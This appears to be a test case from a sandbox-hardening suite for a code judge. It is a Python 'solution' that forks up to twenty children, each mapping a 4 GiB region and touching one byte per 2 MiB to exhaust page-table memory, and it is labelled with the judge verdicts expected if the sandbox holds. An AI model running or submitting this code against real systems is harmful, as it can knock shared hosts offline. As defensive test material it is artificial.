# attack: res_page_tables
# kind: function
# attempts: touches one page in every two megabytes of a vast reservation, in several children: page tables, not pages
# sound verdict: memory_limit|incorrect|runtime_error|time_limit
# host must: teardown is quick enough
# NEVER run outside a sandbox.
import ctypes, mmap, os, time
libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
def touch():
    base = libc.mmap(None, ctypes.c_size_t(1 << 32), 3, 0x4022, -1, 0)
    for at in range(0, 1 << 32, 1 << 21):
        try: ctypes.memset(base + at, 1, 1)
        except Exception: return
def solve(xs):
    for _ in range(20):
        try: pid = os.fork()
        except OSError: break
        if pid == 0: touch(); time.sleep(3600)
    time.sleep(0.5)
    return None
